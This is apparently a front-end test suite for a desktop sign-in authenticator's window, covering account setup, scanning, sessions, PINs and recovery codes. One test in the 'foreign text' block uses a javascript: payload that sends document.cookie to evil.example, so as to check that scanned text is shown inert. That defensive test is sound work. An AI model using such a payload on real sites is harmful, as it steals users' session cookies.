import { fireEvent, screen } from "@testing-library/svelte";
import userEvent from "@testing-library/user-event";
import { describe, expect, it, vi } from "vitest";

import { fixture, open } from "./window";

const user = userEvent.setup();

describe("adding an account", () => {
  it("starts at the first start", async () => {
    const window = await open("first-start");
    await user.click(screen.getByTestId("add-account"));
    expect(window.acts).toEqual([{ command: "go", to: "add_account" }]);
  });

  it("sends the link, without the blanks around it", async () => {
    const window = await open("add-account");
    await user.type(screen.getByTestId("link-input"), "  https://login.example.com/E/ABC {Enter}");
    expect(window.acts).toEqual([{ command: "add_by_link", link: "https://login.example.com/E/ABC" }]);
  });

  it("sends address, name and password", async () => {
    const window = await open("add-account");
    await user.click(screen.getByTestId("by-password"));
    await user.type(screen.getByTestId("address-input"), "login.example.com");
    await user.type(screen.getByTestId("username-input"), "ada");
    await user.type(screen.getByTestId("password-input"), " pass word ");
    await user.click(screen.getByTestId("add-continue"));
    expect(window.acts).toEqual([
      { command: "add_by_password", address: "login.example.com", username: "ada", password: " pass word " },
    ]);
  });

  it("keeps what was typed, but the password, while it is tried and refused", async () => {
    const window = await open("add-account");
    await user.click(screen.getByTestId("by-password"));
    await user.type(screen.getByTestId("address-input"), "login.example.com");
    await user.type(screen.getByTestId("username-input"), "ada");
    await user.type(screen.getByTestId("password-input"), "wrong");
    window.push(fixture("enrolling"));
    await screen.findByRole("progressbar");
    window.push(fixture("add-account-link-used"));
    expect(await screen.findByTestId("address-input")).toHaveValue("login.example.com");
    expect(screen.getByTestId("username-input")).toHaveValue("ada");
    expect(screen.getByTestId("password-input")).toHaveValue("");
    window.push(fixture("first-start"));
    window.push(fixture("add-account"));
    expect(await screen.findByTestId("link-input")).toHaveValue("");
  });

  it("contacts nobody without a yes", async () => {
    const window = await open("confirm-contact");
    await user.keyboard("{Enter} ");
    expect(window.acts).toEqual([]);
    await user.click(screen.getByTestId("refuse-contact"));
    await user.click(screen.getByTestId("confirm-contact"));
    expect(window.acts).toEqual([
      { command: "contact_server", yes: false },
      { command: "contact_server", yes: true },
    ]);
  });

  it("keeps the account after a yes", async () => {
    const window = await open("confirm-account");
    await user.click(screen.getByTestId("confirm-account"));
    expect(window.acts).toEqual([{ command: "keep_account", yes: true }]);
  });
});

describe("scanning", () => {
  it("opens the camera when the view appears, and keeps it off when it was switched off", async () => {
    const window = await open("scan-off");
    expect(window.acts).toEqual([{ command: "start_camera" }]);
    window.push(fixture("scan"));
    await user.click(await screen.findByTestId("stop-camera"));
    window.push(fixture("scan-off"));
    await screen.findByTestId("start-camera");
    expect(window.acts).toEqual([{ command: "start_camera" }, { command: "stop_camera" }]);
  });

  it("hands over the bytes of a chosen picture", async () => {
    const window = await open("scan");
    await user.upload(screen.getByTestId("scan-image"), new File(["PNG"], "code.png", { type: "image/png" }));
    await expect.poll(() => window.pictures.length).toBe(1);
    expect(new TextDecoder().decode(window.pictures[0])).toBe("PNG");
  });

  it("hands over a pasted picture, and a pasted link as text", async () => {
    const window = await open("scan");
    await fireEvent.paste(document.body, { clipboardData: { files: [new File(["GIF"], "a.gif")], getData: () => "" } });
    await expect.poll(() => window.pictures.length).toBe(1);
    await fireEvent.paste(document.body, { clipboardData: { files: [], getData: () => " https://a.example/Q/X " } });
    expect(window.acts).toEqual([{ command: "scan_text", text: "https://a.example/Q/X" }]);
  });

  it("asks the program for the clipboard when the webview shows nothing of it", async () => {
    const window = await open("scan");
    await fireEvent.paste(document.body, { clipboardData: { files: [], getData: () => "" } });
    expect(window.pastes).toBe(1);
  });

  it("leaves a paste into a field to the field", async () => {
    const window = await open("add-account");
    await fireEvent.paste(screen.getByTestId("link-input"), { clipboardData: { files: [], getData: () => "https://a.example/E/X" } });
    expect(window.acts).toEqual([]);
  });

  it("hands over no more of a huge file than the program needs to refuse it", async () => {
    const window = await open("scan");
    const file = new File(["x"], "huge.png");
    Object.defineProperty(file, "size", { value: 5 * 1024 ** 3 });
    const cut = vi.spyOn(file, "slice");
    await fireEvent.paste(document.body, { clipboardData: { files: [file], getData: () => "" } });
    await expect.poll(() => window.pictures.length).toBe(1);
    expect(cut).toHaveBeenCalledWith(0, 64 * 1024 * 1024 + 1);
  });

  it("takes a dropped link as text, leaves files to the program, and never navigates", async () => {
    const window = await open("scan");
    const dataTransfer = { files: [new File(["PNG"], "code.png")], getData: () => "" };
    for (const type of ["dragEnter", "dragOver", "drop"] as const) {
      expect(await fireEvent[type](document.body, { dataTransfer })).toBe(false);
    }
    await fireEvent.drop(document.body, { dataTransfer: { files: [], getData: () => " https://a.example/Q/X " } });
    expect(window.pictures).toEqual([]);
    expect(window.acts).toEqual([{ command: "scan_text", text: "https://a.example/Q/X" }]);
  });

  it("says that a pasted file could not be opened", async () => {
    const window = await open("scan");
    const file = new File(["x"], "gone.png");
    file.arrayBuffer = () => Promise.reject(new Error("NotFoundError"));
    await fireEvent.paste(document.body, { clipboardData: { files: [file], getData: () => "" } });
    await expect.poll(() => window.acts).toEqual([{ command: "picture_failed", details: "open picture: Error: NotFoundError" }]);
  });

  it("asks for the screen and leads to the code field", async () => {
    const window = await open("scan");
    await user.click(screen.getByTestId("scan-screen"));
    await user.click(screen.getByTestId("type-code"));
    expect(window.acts).toEqual([{ command: "scan_screen" }, { command: "go", to: "type_code" }]);
  });

  it("shapes a typed code and sends it for the chosen account", async () => {
    const window = await open("type-code");
    await user.type(screen.getByTestId("code-input"), "bcdf ghjk");
    expect(screen.getByTestId("code-input")).toHaveValue("BCDF-GHJK");
    await user.selectOptions(screen.getByTestId("account-picker"), "a2");
    await user.click(screen.getByTestId("submit-code"));
    expect(window.acts).toEqual([{ command: "submit_user_code", account: "a2", code: "BCDF-GHJK" }]);
  });
});

describe("a foreign text", () => {
  it("is text: no link, nothing sent, copied only on request", async () => {
    const window = await open("foreign-text");
    expect(document.querySelector("main a, main iframe, main img")).toBeNull();
    expect(screen.getByTestId("foreign-text")).toHaveTextContent("javascript:fetch(");
    expect(window.copied).toEqual([]);
    await user.click(screen.getByTestId("copy-text"));
    expect(window.copied).toEqual(["javascript:fetch('https://evil.example/?'+document.cookie)"]);
    expect(window.acts).toEqual([]);
  });

  it("warns of a lookalike", async () => {
    await open("foreign-lookalike");
    expect(screen.getByRole("alert")).toHaveTextContent("https://login.examp1e.com");
  });
});

describe("sessions and devices", () => {
  it("ends one at once and all after one question", async () => {
    const window = await open("sessions");
    await user.click(screen.getAllByTestId("end-session")[0]!);
    await user.click(screen.getByTestId("end-all"));
    expect(window.acts).toHaveLength(1);
    await user.click(screen.getByTestId("sheet-yes"));
    expect(window.acts).toEqual([
      { command: "end_session", account: "a1", session: "s1" },
      { command: "end_all_sessions", account: "a1" },
    ]);
    expect(screen.queryByTestId("sheet")).toBeNull();
  });

  it("ends nothing when the question is cancelled", async () => {
    const window = await open("sessions");
    await user.click(screen.getByTestId("end-all"));
    await user.click(screen.getByTestId("sheet-cancel"));
    expect(window.acts).toEqual([]);
    expect(screen.queryByTestId("sheet")).toBeNull();
  });

  it("renames and removes a device, and never the own one here", async () => {
    const window = await open("devices");
    expect(screen.getAllByTestId("remove-device")).toHaveLength(2);
    await user.click(screen.getAllByTestId("rename-device")[1]!);
    await user.clear(screen.getByTestId("device-name"));
    await user.type(screen.getByTestId("device-name"), " Reading room {Enter}");
    await user.click(screen.getAllByTestId("remove-device")[0]!);
    await user.click(screen.getByTestId("sheet-yes"));
    expect(window.acts).toEqual([
      { command: "rename_device", account: "a1", device: "d2", name: "Reading room" },
      { command: "remove_device", account: "a1", device: "d2" },
    ]);
  });

  it("shows what is known beside the trouble", async () => {
    await open("sessions-offline");
    expect(screen.getByTestId("error")).toHaveAttribute("data-code", "server_unreachable");
    expect(screen.getAllByTestId("session-row")).toHaveLength(3);
  });
});

describe("long lists and strange servers", () => {
  it("draws a hundred rows of ten thousand, and more on request", async () => {
    const window = fixture("sessions");
    if (window.screen.view !== "sessions") throw new Error("another fixture");
    const first = window.screen.sessions.items?.[0];
    if (!first) throw new Error("no session");
    window.screen.sessions.items = Array.from({ length: 10_000 }, (_, n) => ({ ...first, id: `s${n}` }));
    await open("sessions", window);
    expect(screen.getAllByTestId("session-row")).toHaveLength(100);
    expect(screen.getByTestId("show-more")).toHaveTextContent("Show more (9900 left)");
    await user.click(screen.getByTestId("show-more"));
    expect(screen.getAllByTestId("session-row")).toHaveLength(200);
    expect(screen.getByTestId("end-all")).toBeVisible();
  });

  it("says of an entry which browser, by which device and from where", async () => {
    await open("activity");
    expect(screen.getAllByTestId("activity-row")[0]).toHaveTextContent("Firefox 153 on Windows 11 · Workshop · 203.0.113.7");
    expect(screen.getAllByTestId("activity-row")[3]).toHaveTextContent("Ada’s laptop · 198.51.100.23");
  });

  it("shows the server's sentence for a kind it does not know, whatever its name", async () => {
    const window = fixture("activity");
    if (window.screen.view !== "activity") throw new Error("another fixture");
    const first = window.screen.entries.items?.[0];
    if (!first) throw new Error("no entry");
    window.screen.entries.items = [
      { ...first, seq: 2, kind: "constructor", summary: "Something new." },
      { ...first, seq: 1, kind: "toString", summary: "" },
    ];
    await open("activity", window);
    const rows = screen.getAllByTestId("activity-row");
    expect(rows[0]).toHaveTextContent("Something new.");
    expect(rows[1]).toHaveTextContent("Something that this version does not know");
  });

  it("stands when a view cannot be drawn, says so, and goes on", async () => {
    const broken = fixture("sessions");
    if (broken.screen.view !== "sessions" || !broken.screen.sessions.items?.[0]) throw new Error("another fixture");
    broken.screen.sessions.items[0].last_seen_at = Number.NaN;
    const window = await open("settings");
    window.push(broken);
    expect(await screen.findByTestId("fault")).toHaveTextContent("This view cannot be shown");
    expect(window.reports[0]).toContain("view sessions:");
    await user.click(screen.getByTestId("go-scan"));
    expect(window.acts.at(-1)).toEqual({ command: "go", to: "scan" });
    window.push(fixture("sessions"));
    await user.click(screen.getByTestId("retry"));
    expect(await screen.findAllByTestId("session-row")).toHaveLength(3);
  });
});

describe("accounts and settings", () => {
  it("signs out after one question", async () => {
    const window = await open("accounts");
    await user.click(screen.getAllByTestId("sign-out")[1]!);
    expect(window.acts).toEqual([]);
    await user.click(screen.getByTestId("sheet-yes"));
    expect(window.acts).toEqual([{ command: "sign_out", account: "a2" }]);
  });

  it("changes one setting and keeps the others, also those that are still on their way", async () => {
    const window = await open("settings");
    const before = fixture("settings").settings;
    await user.click(screen.getByTestId("start-at-login"));
    await user.click(screen.getByTestId("theme-dark"));
    await user.selectOptions(screen.getByTestId("language"), "de");
    expect(window.acts).toEqual([
      { command: "change_settings", settings: { ...before, start_at_login: true } },
      { command: "change_settings", settings: { ...before, start_at_login: true, theme: "dark" } },
      { command: "change_settings", settings: { ...before, start_at_login: true, theme: "dark", language: "de" } },
    ]);
  });

  it("starts anew after one question when the list of accounts is damaged, and only then", async () => {
    const window = await open("start-trouble-keychain-none");
    expect(screen.queryByTestId("erase")).toBeNull();
    window.push(fixture("start-trouble-accounts-unreadable"));
    await user.click(await screen.findByTestId("erase"));
    expect(window.acts).toEqual([]);
    await user.click(screen.getByTestId("sheet-yes"));
    expect(window.acts).toEqual([{ command: "erase_everything" }]);
  });

  it("erases after one question", async () => {
    const window = await open("settings");
    await user.click(screen.getByTestId("erase"));
    await user.click(screen.getByTestId("sheet-yes"));
    expect(window.acts).toEqual([{ command: "erase_everything" }]);
  });
});

describe("the window", () => {
  it("ignores a state older than the one it shows", async () => {
    const window = await open("sessions");
    window.app.accept({ ...fixture("scan"), revision: 0 });
    expect(window.app.view?.screen.view).toBe("sessions");
  });

  it("copies details of a failure and says so", async () => {
    const window = await open("scan-expired");
    await user.click(screen.getByTestId("copy-details"));
    expect(window.copied).toEqual(["fixture: code_expired"]);
    expect(screen.getByTestId("copy-details")).toHaveTextContent("Details copied");
  });

  it("dismisses a notice", async () => {
    const window = await open("notice-failed");
    await user.click(screen.getByTestId("dismiss-notice"));
    expect(window.acts).toEqual([{ command: "dismiss_notice", id: 1 }]);
  });

  it("lets good news go by themselves, whatever is pushed meanwhile", async () => {
    vi.useFakeTimers({ toFake: ["setTimeout", "clearTimeout"] });
    const window = await open("sessions-two-accounts");
    for (let second = 0; second < 7; second++) {
      window.push(fixture("sessions-two-accounts"));
      await vi.advanceTimersByTimeAsync(1000);
    }
    expect(window.acts).toEqual([{ command: "dismiss_notice", id: 4 }]);
    vi.useRealTimers();
  });

  it("keeps good news back while a question is open, and failures in sight", async () => {
    const news = fixture("sessions-two-accounts").notice;
    const window = await open("authorize", { notice: news });
    expect(screen.queryByTestId("notice")).toBeNull();
    window.push({ ...fixture("authorize"), notice: fixture("notice-failed").notice });
    expect(await screen.findByTestId("notice")).toHaveAttribute("data-code", "server_unavailable");
  });

  it("marks what is left to do", async () => {
    const window = await open("settings", { notice: { id: 7, message: { notice: "session_ended" } } });
    expect(screen.getByTestId("notice").querySelector(".sign")).toHaveClass("check");
    window.push({ ...fixture("settings"), notice: { id: 8, message: { notice: "account_removed_here_only", host: "a.example" } } });
    await vi.waitFor(() => expect(screen.getByTestId("notice").querySelector(".sign")).toHaveClass("warning"));
  });

  it("goes back with Escape where there is a way back", async () => {
    const window = await open("settings");
    await user.keyboard("{Escape}");
    expect(window.acts).toEqual([{ command: "back" }]);
  });

  it("says so when its program is gone", async () => {
    const window = await open("scan");
    window.app.bridge.send = () => Promise.reject(new Error("gone"));
    await user.click(screen.getByTestId("scan-screen"));
    expect(await screen.findByText("The window lost its program")).toBeVisible();
  });
});

describe("recovery codes", () => {
  it("are made on request, copied, saved, and gone once they are kept", async () => {
    const window = await open("recovery-offer");
    await user.click(screen.getByTestId("make-codes"));
    window.push(fixture("recovery-codes"));
    await user.click(await screen.findByTestId("copy-codes"));
    expect(window.copied[0]!.split("\n")).toHaveLength(10);
    await user.click(screen.getByTestId("save-codes"));
    window.push(fixture("recovery-codes-saved"));
    expect(await screen.findByTestId("codes-saved")).toHaveTextContent("/home/ada/Documents/");
    await user.click(screen.getByTestId("codes-kept"));
    expect(window.acts).toEqual([
      { command: "make_recovery_codes", account: "a1", pin: null },
      { command: "save_recovery_codes" },
      { command: "recovery_codes_kept" },
    ]);
  });

  it("are not made without the PIN where one is set", async () => {
    const window = await open("recovery-left", { pin: { ...fixture("settings-with-pin").pin } });
    await user.click(screen.getByTestId("make-codes"));
    expect(window.acts).toEqual([]);
    await user.type(screen.getByTestId("pin"), "471108{Enter}");
    expect(window.acts).toEqual([{ command: "make_recovery_codes", account: "a1", pin: "471108" }]);
  });

  it("let a new computer in", async () => {
    const window = await open("add-account");
    await user.click(screen.getByTestId("lost-computer"));
    await user.type(screen.getByTestId("address-input"), "login.example.com");
    await user.type(screen.getByTestId("username-input"), "ada");
    await user.type(screen.getByTestId("recovery-code-input"), " u6t2 pj5h kq7a xw3m ");
    await user.click(screen.getByTestId("add-continue"));
    expect(window.acts).toEqual([
      { command: "add_by_recovery", address: "login.example.com", username: "ada", recovery_code: "u6t2 pj5h kq7a xw3m" },
    ]);
    await user.click(screen.getByTestId("back"));
    expect(screen.getByTestId("link-input")).toBeVisible();
  });
});

describe("the PIN in the settings", () => {
  it("is set, changed and taken away by what is typed", async () => {
    const window = await open("settings");
    await user.click(screen.getByTestId("pin-setting"));
    await user.type(screen.getByTestId("pin"), "471108");
    await user.type(screen.getByTestId("pin-again"), "471108");
    await user.click(screen.getByTestId("pin-yes"));
    const set = fixture("settings-with-pin");
    window.push({ ...set, pin: { ...set.pin, judged: 1, passed: 1 } });
    await vi.waitFor(() => expect(screen.queryByTestId("pin-sheet")).toBeNull());
    await user.click(screen.getByTestId("pin-change"));
    await user.type(screen.getByTestId("pin-current"), "471108");
    await user.type(screen.getByTestId("pin"), "902817");
    await user.type(screen.getByTestId("pin-again"), "902817");
    await user.click(screen.getByTestId("pin-yes"));
    window.push({ ...set, pin: { ...set.pin, judged: 2, passed: 2 } });
    await vi.waitFor(() => expect(screen.queryByTestId("pin-sheet")).toBeNull());
    await user.click(screen.getByTestId("pin-setting"));
    await user.type(screen.getByTestId("pin"), "902817{Enter}");
    expect(window.acts).toEqual([
      { command: "set_pin", current: null, new: "471108" },
      { command: "set_pin", current: "471108", new: "902817" },
      { command: "remove_pin", current: "902817" },
    ]);
  });
});

describe("a new sign-in", () => {
  it("says which browser, where and when, and is disowned by one press", async () => {
    const window = await open("notice-new-sign-in");
    const notice = screen.getByTestId("notice");
    expect(notice).toHaveTextContent(/New sign-in: Chromium 148 on Linux, at login\.example\.com, .*\d/);
    expect(notice).toHaveTextContent("Ada’s laptop approved it.");
    await user.click(screen.getByTestId("not-mine"));
    expect(window.acts).toEqual([{ command: "disown_sign_in", notice: 2 }]);
  });

  it("goes when it was me", async () => {
    const window = await open("notice-new-sign-in");
    await user.click(screen.getByTestId("was-mine"));
    expect(window.acts).toEqual([{ command: "dismiss_notice", id: 2 }]);
  });

  it("leads on to what to do next", async () => {
    const window = await open("disowned");
    await user.click(screen.getByTestId("see-devices"));
    expect(window.acts).toEqual([
      { command: "go", to: "devices" },
      { command: "select_account", account: "a1" },
    ]);
    window.push(fixture("disowned-failed"));
    await user.click(await screen.findByTestId("retry"));
    expect(window.acts.at(-1)).toEqual({ command: "retry" });
  });
});
